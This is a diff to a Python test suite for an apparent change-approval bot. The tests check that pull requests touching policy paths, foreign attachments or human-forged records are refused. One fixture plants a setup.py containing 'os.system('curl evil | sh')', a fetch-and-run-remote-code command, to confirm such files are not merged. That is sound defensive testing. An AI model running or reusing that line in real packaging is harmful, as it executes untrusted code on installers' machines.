@@ -108,7 +108,7 @@ def test_approval_given_before_the_bots_pending_record_still_counts(cab: Cab) ->
 def test_approval_given_before_a_human_push_is_stale(cab: Cab) -> None:
     number = cab.submit(MEDIUM)
     reviewed = cab.pr(number).head_sha
-    cab.push(number, {"docs/notes.md": b"later\n"})
+    cab.push(number, {"evidence/2026-11/identity-gateway-3.0.0/notes.md": b"later\n"})  # an attachment
     cab.sync(number)
     cab.review(number, "bob-cab", on=reviewed)
     assert cab.sync(number).status == "pending"
@@ -211,11 +211,38 @@ def test_invalid_evidence_is_reported_with_its_line_and_not_merged(cab: Cab) -> 
     assert cab.pr(number).state == "open"
 
 
-def test_policy_change_in_the_pr_forces_the_high_tier(cab: Cab) -> None:
+def test_a_change_mixed_with_a_policy_path_is_refused_naming_the_path(cab: Cab) -> None:
+    """CODEOWNERS is outside a change's allow-list: decided as neither, never merged (issue 13)."""
     number = cab.submit(LOW, extra={".github/CODEOWNERS": b"* @example/cab\n"})
     result = cab.sync(number)
-    assert (result.status, result.tier) == ("pending", "high")
-    assert cab.pr(number).labels == ("risk:high",)
+    assert result.status == "refused"
+    assert ".github/CODEOWNERS: outside this pull request's allow-list" in result.summary
+    assert "needs CAB and security approval" in bot_comment(cab, number)
+    assert cab.status(cab.pr(number).head_sha) == "failure"
+    assert cab.pr(number).state == "open"
+
+
+def test_a_low_pack_with_a_root_setup_py_is_not_auto_merged(cab: Cab) -> None:
+    """Paths that are not policy by name but run code (`pip install .`) are outside the allow-list."""
+    number = cab.submit(LOW, extra={"setup.py": b"import os\nos.system('curl evil | sh')\n"})
+    result = cab.sync(number)
+    assert result.status == "refused"
+    assert "setup.py: outside this pull request's allow-list" in result.summary
+    assert cab.pr(number).state == "open"
+    assert cab.main_file("setup.py") is None
+
+
+def test_a_change_may_bring_attachments_in_its_own_folder(cab: Cab) -> None:
+    number = cab.submit(LOW, extra={"evidence/2026-11/payments-api-7.4.2/trivy.json": b"{}\n"})
+    assert cab.sync(number).outcome == "auto_approved"
+    assert cab.main_file("evidence/2026-11/payments-api-7.4.2/trivy.json") == b"{}\n"
+
+
+def test_attachments_of_another_change_are_refused(cab: Cab) -> None:
+    number = cab.submit(LOW, extra={"evidence/2026-11/identity-gateway-3.0.0/trivy.json": b"{}\n"})
+    result = cab.sync(number)
+    assert result.status == "refused"
+    assert "attachments belong in the folder of this pull request's evidence pack" in result.summary
 
 
 def test_two_prs_decided_one_after_another_keep_the_hash_chain(cab: Cab) -> None:
@@ -354,7 +381,9 @@ def test_evidence_that_is_no_plain_file_is_refused_with_a_comment_and_a_failing_
     assert cab.status(head) == "failure"
 
 
-def test_a_final_record_the_pr_author_pushed_is_replaced_by_the_bots_own(cab: Cab) -> None:
+def test_a_final_record_the_pr_author_pushed_is_refused_and_never_reused(cab: Cab) -> None:
+    """Only the bot writes records (issue 13): a record a person pushed refuses the PR until the
+    bot's own is back, and its bytes are never merged."""
     number = cab.submit(MEDIUM)
     cab.sync(number)
     cab.comment(number, "carol-cab", "/cab conditions deploy outside business hours only")
@@ -367,5 +396,9 @@ def test_a_final_record_the_pr_author_pushed_is_replaced_by_the_bots_own(cab: Ca
     cab.push(number, {MEDIUM_RECORD: forged})
     assert cab.pr(number).head_sha != head
     result = cab.sync(number)
-    assert (result.status, result.outcome) == ("merged", "conditional")
-    assert record_of(cab, MEDIUM_RECORD).conditions == ["deploy outside business hours only"]
+    assert result.status == "refused"
+    assert f"{MEDIUM_RECORD}: written by commit" in result.summary
+    assert "not by the bot; only the bot writes records" in bot_comment(cab, number)
+    assert cab.status(cab.pr(number).head_sha) == "failure"
+    assert cab.pr(number).state == "open"
+    assert cab.main_file(MEDIUM_RECORD) is None
